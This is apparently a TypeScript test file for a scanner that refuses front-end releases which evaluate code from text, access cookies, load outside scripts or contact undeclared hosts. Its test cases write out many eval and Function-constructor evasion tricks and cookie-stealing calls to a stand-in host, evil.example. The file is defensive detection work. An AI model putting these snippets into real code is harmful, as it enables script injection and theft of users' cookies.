// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these texts are code.
import type { Descriptor } from '@sufra/contract';
import { buildDescriptor, buildFace, buildFiles, buildOther, buildShell } from '../testing/build-release.ts';
import { examineRelease } from './examine-release.ts';
import { FILE_CHECKS } from './files-do-no-harm.ts';
import { KNOWN_HOSTS, SHELL_GRANTS } from './scan/grants.ts';
import { scanFiles } from './scan/scan-files.ts';
import { scanRelease } from './scan/scan-release.ts';

/** Faults by rule, of a release whose files are these. */
function refused(
  files: Record<string, string>,
  candidate: Descriptor = buildOther('mf-other'),
): Record<string, string[]> {
  const findings = scanFiles(new Map(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)])));
  return Object.fromEntries(
    FILE_CHECKS.map(({ name, faultsOf }) => [name, [...faultsOf(candidate, findings)]]).filter(
      ([, faults]) => faults!.length > 0,
    ),
  );
}
/** Of a module that nothing is granted to. */
const rules = (code: string) => Object.keys(refused({ 'menu.js': code }, buildOther('mf-visits')));

describe('a release that tries it (safety M4)', () => {
  it.each([
    'eval("1")',
    '(0, eval)(text)',
    'const run = eval; run(text)',
    'window.eval(text)',
    'window["ev" + "al"](text)',
    'globalThis[name](text)',
    'const { eval: run } = window',
    'new Function("return this")()',
    'Function("return this")() || globalThis',
    'globalThis || (() => Function("return this")())()',
    'globalThis || Function("return that")()',
    'try { new Function("") } finally {}',
    'Function("a", "b")',
    'Function.call(null, text)',
    'Function.prototype.constructor(text)',
    'Function[name](text)',
    'Reflect.construct(Function, [text])',
    'new window[name](text)',
    'window?.[name](text)',
    'document[name]`text`',
    'document[name]("<b>")',

    'const Make = Function; new Make(text)',
    'window.Function(text)',
    '[].map.constructor.constructor("x")',
    '(() => {}).constructor("x")()',
    '(async function () {}).constructor("x")',
    '(Function?.prototype).constructor("x")()',
    'const { constructor: Make } = Function.prototype; Make("x")()',
    'let Make; ({ ["constructor"]: Make } = Function.toString)',
    'function make({ [key]: Make } = Function.prototype) {}',
    'Function.toString.constructor("x")()',
    '[].map.constructor("x")()',
    '(0, [].map.constructor)("x")',
    'new [].map.constructor("x")',
    '[].map?.constructor("x")',
    '[].map.constructor?.constructor',
    'window[name].call(window, text)',
    'window[name]?.apply(window, [text])',
    'const run = globalThis[name].bind(null)',
    '(0, window[name])(text)',
    '(0, window?.[name])`text`',
    'document[["coo", "kie"].join("")] = "lang=en"',
    'setTimeout("run()", 5)',
    'window.setInterval(`run(${x})`, 5)',
    'setTimeout("run(" + x + ")", 5)',
  ])('makes code from text: %s', (code) => {
    expect(rules(code)).toEqual(['no-code-from-text']);
  });

  it.each([
    'read(document.cookie)',
    'document.cookie = "lang=en"',
    'document["cookie"]',
    'document["coo" + "kie"]',
    'const { cookie } = document',
    'const { "cookie": all } = window.document',
    'cookieStore.get("x")',
    'window?.cookieStore',
  ])('reads or writes cookies: %s', (code) => {
    expect(rules(code)).toEqual(['no-access-to-cookies']);
  });

  it.each([
    'document.createElement("script")',
    'const tag = document.createElement("SCRIPT")',
    'document.createElement("scr" + "ipt")',
    'document.createElement(name)',
    'document.createElementNS(svg, "script")',
    '(0, runtime.jsx)("script", { src })',
    'document.write(html)',
    'window.document.writeln(html)',
    'range.createContextualFragment(html)',
    'frame.srcdoc = html',
    'jsx("iframe", { srcDoc: html })',
    'import(address)',
    'import("data:text/javascript,1")',
    'importScripts("./x.js")',
    'new Worker("./x.js")',
    'new SharedWorker(address)',
    'const Plain = globalThis.Worker',
    'class Mine extends Worker {}',
    'navigator.serviceWorker.register("/x.js")',
    'link.href = "javascript:run()"',
    'trustedTypes.createPolicy("sufra-worker", { createScriptURL: (a) => a })',
    'const { createPolicy: make } = window.trustedTypes',
    'trustedTypes["create" + "Policy"](name, rules)',
    'trustedTypes.createPolicy("default", rules)',
    'trustedTypes.createPolicy.call(trustedTypes, "sufra", rules)',
  ])('brings a script of its own: %s', (code) => {
    expect(rules(code)).toEqual(['no-scripts-from-elsewhere']);
  });

  it('imports from elsewhere', () => {
    expect(refused({ 'menu.js': 'import x from "https://evil.example/x.js";\nexport * from "react";' })).toEqual({
      'no-scripts-from-elsewhere': [
        expect.stringContaining('menu.js:1:15 import "https://evil.example/x.js": '),
        expect.stringContaining('menu.js:2:15 import "react": '),
      ],
      // The same address names a host.
      'hosts-are-declared': [expect.stringContaining('evil.example')],
    });
  });

  it.each([
    ['fetch("https://evil.example/steal")', 'evil.example'],
    ['fetch("//Evil.Example./steal")', 'evil.example'],
    ['fetch("ht" + "tps://evil.example/" + data)', 'evil.example'],
    ['fetch(`https://evil.example:8443/${data}`)', 'evil.example'],
    ['fetch(`${x} https://evil.example/`)', 'evil.example'],
    ['new WebSocket("wss://user@evil.example/")', 'evil.example'],
    ['css`background: url(//evil.example/x.png)`', 'evil.example'],
    ['fetch("https://[2001:db8::1]/")', '[2001:db8::1]'],
    ['add("all and here <a href= https://evil.example>")', 'evil.example'],
    ['add("small big 1x, https://evil.example")', 'evil.example'],
    ['add("a { color: red } div { background: //url no url( https://evil.example")', 'evil.example'],
    ['fetch("word https://evil.example")', 'evil.example'],
    ['fetch(`https://${host}/steal`)', 'made at run time'],
    ['fetch("https://" + host)', 'made at run time'],
  ])('names a host that its face does not: %s', (code, host) => {
    expect(refused({ 'menu.js': code })).toEqual({
      'hosts-are-declared': [
        expect.stringMatching(new RegExp(`^menu\\.js:1:\\d+ ${host.replace(/[.[\]]/g, '\\$&')}: name the host`)),
      ],
    });
  });

  it('names such a host in another file than a script, or puts a script there', () => {
    expect(Object.keys(refused({ 'a.css': '.a{background:url("//evil.example/x")}' }))).toEqual(['hosts-are-declared']);
    expect(Object.keys(refused({ 'a.svg': '<svg><SCRIPT>run()</SCRIPT></svg>' }))).toEqual([
      'no-scripts-from-elsewhere',
    ]);
  });

  it('holds an unreadable script', () => {
    expect(refused({ 'menu.js': 'export const = 5' })).toEqual({
      'scripts-can-be-read': [expect.stringMatching(/^menu\.js:1:14 Unexpected token: /)],
    });
    expect(rules(`${'('.repeat(200_000)}1`)).toEqual(['scripts-can-be-read']);
  });

  it('does it in its server bundle', () => {
    const code = 'new Function(text); fetch("https://evil.example"); document.cookie; jsx("script")';
    expect(Object.keys(refused({ 'server/server.mjs': code }))).toEqual(['no-code-from-text', 'hosts-are-declared']);
  });

  it.each(['import { createRequire } from "node:module"', 'import fs from "fs"', 'export * from "react"'])(
    'has a server bundle that no fragment worker can load: %s',
    (code) => {
      expect(Object.keys(refused({ 'server/server.mjs': `${code};` }))).toEqual(['server-half-is-one-file']);
    },
  );
});

describe('a release', () => {
  it.each([
    'f instanceof Function; typeof Function; Function.prototype.bind; f === Function',
    'Function.toString.call(f); Function.prototype.toString; Function.name',
    'const root = typeof self == "object" && self || Function("return this")()',
    'const root = ok ? window : new Function("return this")()',
    'try { new Function(""); yes() } catch { no() }',
    'const frame = window[`webkit${name}`]; window[name] = frame; if (window[name]) go()',
    'document[isOn ? "addEventListener" : "removeEventListener"]("touchstart", run)',
    'throw Error(`Minified error nr: ${n}. Full error at: https://bit.ly/3cXEKWf`)',
    'const message = `Use ${a} instead of ${b}`; const more = `Use ${a} in place of (${b}); see: https://github.com/x`',
    'console.warn("Use a instead of b; see: https://github.com/x/y.md")',
    'const { evaluate, cookies } = menu; menu.cookies; typeof Worker',
    'setTimeout(run, 5); setTimeout(() => run("x"), 5)',
    'document.createElement("canvas"); document.querySelector("script"); jsx("p", { children: "script" })',
    'import("./chunk.js"); export { a } from "../b.js"',
    'store.write(value); model.write("x")',
    'const text = "// a comment, not a host"; const path = `/a//b`; const other = `${origin}//${path}`',
    'jsx("use", { xmlns: "http://www.w3.org/2000/svg" }); new URL(next, "https://own.invalid")',
    'items[name]; window[0]',
    'new this.constructor(x); new value.constructor("x"); value.constructor(x); new a.value.constructor(x)',
    'const { constructor: Made } = value; const { constructor: Own } = this; const { name } = Function.prototype',
    'window[name].title; document[name].title = "x"; run((0, window[name]))',
    'try { policy = trustedTypes.createPolicy("html", { createHTML: (text) => text }) } catch {}',
  ])('may write %s', (code) => {
    expect(rules(code)).toEqual([]);
  });

  it('may name the hosts of its face, and no part of them', () => {
    const candidate = buildDescriptor({ face: buildFace({ hosts: ['wa.me'] }) });
    expect(refused({ 'a.js': 'open("https://wa.me/?text=x")' }, candidate)).toEqual({});
    expect(refused({ 'a.js': 'open("https://wa.me.evil.example/")' }, candidate)).toHaveProperty('hosts-are-declared');
    expect(refused({ 'a.js': 'open("https://x.wa.me/")' }, candidate)).toHaveProperty('hosts-are-declared');
  });

  it('tells line and column, and the source by its map', () => {
    const map = {
      version: 3,
      sources: ['webpack://@sufra/mf-menu/./screens/menu/screen.tsx'],
      names: [],
      mappings: ';SAMA',
    };
    const files = { 'menu.js': 'const a = 1;\n const b = document.cookie;', 'menu.js.map': JSON.stringify(map) };
    expect(refused(files)['no-access-to-cookies']).toEqual([
      expect.stringMatching(/^menu\.js:2:12 document\.cookie, from screens\/menu\/screen\.tsx:7: /),
    ]);
    expect(refused({ ...files, 'menu.js.map': 'broken' })['no-access-to-cookies']).toHaveLength(1);
  });

  it('is refused whole, by rule and place', async () => {
    const release = buildDescriptor();
    const files = buildFiles(release).set('menu.js', Buffer.from('\nexport const steal = () => document.cookie;'));
    const examined = await examineRelease({ ...release }, files, () => ({ shell: null, modules: [] }));
    expect(examined).toMatchObject({ ok: false });
    expect('results' in examined && examined.results.filter(({ faults }) => faults.length > 0)).toEqual([
      { name: 'no-access-to-cookies', faults: [expect.stringMatching(/^menu\.js:2:28 document\.cookie: /)] },
    ]);
  });

  it('that is large is scanned aside, with the same findings', async () => {
    const files = new Map([
      ['a.js', Buffer.from(`${'/* x */'.repeat(20_000)}eval(1)`)],
      ['b.js.map', Buffer.from('{}')],
      ['c.png', Buffer.from('https://evil.example')],
    ]);
    expect(await scanRelease(files)).toEqual(scanFiles(files));
    expect(scanFiles(files)).toMatchObject([{ kind: 'code', what: 'eval(…)', file: 'a.js', line: 1, column: 140_001 }]);
  });

  it('that shares files with one before it has the findings of its own bytes, names and maps', async () => {
    const bad = Buffer.from('eval(1);');
    const releases = [
      { 'a.js': bad, 'b.js': Buffer.from('fine();') },
      { 'a.js': bad, 'b.js': Buffer.from('eval(2);') },
      { 'a.js': Buffer.from('fine();'), 'b.js': bad },
      {
        'a.js': bad,
        'a.js.map': Buffer.from('{"version":3,"sources":["own.ts"],"names":[],"mappings":"AAAA"}'),
      },
      { 'server/a.js': Buffer.from('document.cookie'), 'a.js': Buffer.from('document.cookie') },
    ].map((files) => new Map(Object.entries(files)));
    for (const files of [...releases, ...releases]) expect(await scanRelease(files)).toEqual(scanFiles(files));
  });
});

describe('a grant', () => {
  it('is the shell’s alone, and for so many places', () => {
    const code = 'document.cookie;';
    const shell = buildShell();
    expect(refused({ 'a.js': code.repeat(7) }, shell)).toEqual({});
    const faults = refused({ 'a.js': code.repeat(4), 'b.js': code.repeat(4) }, shell)['no-access-to-cookies'];
    expect(faults).toHaveLength(8);
    expect(faults![0]).toMatch(/granted in 7 places, here in 8/);
    expect(refused({ 'a.js': code })).toHaveProperty('no-access-to-cookies');
  });

  it('that is not needed any more is noted', () => {
    const [check] = FILE_CHECKS.filter(({ name }) => name === 'no-access-to-cookies');
    const files = new Map([['a.js', Buffer.from('document.cookie')]]);
    expect(check!.notesOf!(buildShell(), scanFiles(files))).toEqual([
      expect.stringMatching(/^document\.cookie is granted in \d places, here in 1: /),
      expect.stringMatching(/^document\.cookieStore is granted in \d places, here in 0: /),
    ]);
    expect(check!.notesOf!(buildOther('mf-other'), [])).toEqual([]);
  });

  it('has a reason, and is given once', () => {
    for (const { reason } of SHELL_GRANTS) expect(reason.length).toBeGreaterThan(20);
    expect(new Set(SHELL_GRANTS.map(({ kind, what }) => `${kind} ${what}`)).size).toBe(SHELL_GRANTS.length);
    for (const { reason } of KNOWN_HOSTS) expect(reason.length).toBeGreaterThan(10);
  });
});
